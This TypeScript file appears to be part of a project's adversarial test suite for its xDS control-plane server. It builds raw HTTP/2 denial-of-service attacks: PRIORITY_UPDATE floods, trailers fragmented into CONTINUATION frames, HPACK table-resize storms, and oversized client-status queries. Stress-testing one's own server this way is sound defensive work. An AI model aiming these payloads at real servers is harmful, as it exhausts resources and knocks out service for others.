// What is allowed, in the smallest pieces or the largest number: found by reading SECURITY.md as somebody who means harm would.
import { loadReportPath } from '@evenkeel/xds';
import { frameFlag } from '@evenkeel/xds/http2';
import type { Attack } from './attacks.ts';
import { dataFrames, keepWriting, message } from './attacks-own.ts';
import { field, frame, headers, int32, literal, type RawConnection, requestBlock, setting } from './raw-connection.ts';

const cds = 'type.googleapis.com/envoy.config.cluster.v3.Cluster';
const fetchStatus = '/envoy.service.status.v3.ClientStatusDiscoveryService/FetchClientStatus';
const block = requestBlock();
const nothing = Buffer.alloc(0);
/** PRIORITY_UPDATE (RFC 9218, 7.1). */
const priorityUpdate = 0x10;

/** A request on a stream of its own, that ends with its one message. */
function ask(id: number, path: string, bytes: Uint8Array): Buffer {
  return Buffer.concat([
    headers(id, requestBlock(path)),
    dataFrames(id, bytes),
    frame('data', frameFlag.endStream, id, nothing),
  ]);
}

/** A hundred streams whose nodes have long ids, so that there is something to search. */
function namedStreams(connection: RawConnection): void {
  for (let id = 1; id < 200; id += 2) {
    connection.write(headers(id, block));
    connection.data(id, message(field(1, field(1, `${id}`.padStart(900, 'x'))), field(4, cds), field(3, 'a')));
  }
  // Places for questions.
  for (let id = 1; id < 100; id += 2) connection.write(frame('rstStream', 0, id, int32(8)));
}

/** As many matchers of node ids as a question may be long. */
const matchers = Buffer.concat(Array.from({ length: 6_000 }, () => field(1, field(1, field(6, 'y')))));

export const pieceAttacks: Readonly<Record<string, Attack>> = {
  'priority-updates': {
    what: 'PRIORITY_UPDATE for a stream that is open, 1,000 a write',
    run: keepWriting(
      (connection) => connection.write(headers(1, block)),
      (turn) => {
        const update = frame(priorityUpdate, 0, 0, Buffer.concat([int32(1), Buffer.from(`u=${turn % 8}`)]));
        return Buffer.concat(Array.from({ length: 1_000 }, () => update));
      },
    ),
  },
  'trailers-in-pieces': {
    what: 'trailers in nine frames of a few bytes, on stream after stream',
    run: keepWriting(
      () => {},
      (turn) => {
        const id = turn * 2 + 1;
        const trailers = literal(0, 'v'.repeat(8), 'x-trailer');
        const pieces = Array.from({ length: 8 }, (_, index) =>
          frame(
            'continuation',
            index === 7 ? frameFlag.endHeaders : 0,
            id,
            trailers.subarray(index * 2, index === 7 ? undefined : index * 2 + 2),
          ),
        );
        return Buffer.concat([headers(id, block), frame('headers', frameFlag.endStream, id, nothing), ...pieces]);
      },
    ),
  },
  'table-resizes': {
    what: 'the header table emptied and made large again 3,000 times a block, and filled between blocks',
    run: keepWriting(
      () => {},
      (turn) => {
        // 0, then 4,096 (RFC 7541, 6.3).
        const resizes = Buffer.alloc(12_000, Buffer.from([0x20, 0x3f, 0xe1, 0x1f]));
        const fill = Array.from({ length: 50 }, (_, index) => literal(0, '', `x-${turn}-${index}`));
        return headers(turn * 2 + 1, Buffer.concat([resizes, block, ...fill]), true);
      },
    ),
  },
  'reports-half-closed': {
    what: 'streams of load reports that say who they are and are over',
    run: keepWriting(
      () => {},
      (turn) => ask(turn * 2 + 1, loadReportPath, message(field(1, field(1, `web-${turn}`.padEnd(900, 'x'))))),
    ),
  },
  'status-matchers': {
    what: 'questions for the state of clients with 6,000 matchers, while there are many clients with long names',
    run: keepWriting(namedStreams, (turn) => ask(201 + turn * 2, fetchStatus, message(matchers))),
  },
  'status-answers': {
    what: 'questions for the state of 15,000 names, 20 at once',
    run: keepWriting(
      (connection) => {
        connection.write(frame('settings', 0, 0, setting(4, 2 ** 31 - 1)));
        connection.write(frame('windowUpdate', 0, 0, int32(2 ** 30)));
        connection.write(headers(1, block));
        const names = Array.from({ length: 15_000 }, (_, index) => field(3, `name-${index}`));
        connection.data(1, message(field(1, field(1, 'asks')), field(4, cds), ...names));
      },
      (turn) => ask(3 + turn * 2, fetchStatus, message(field(1, field(1, field(1, 'asks'))))),
    ),
  },
};
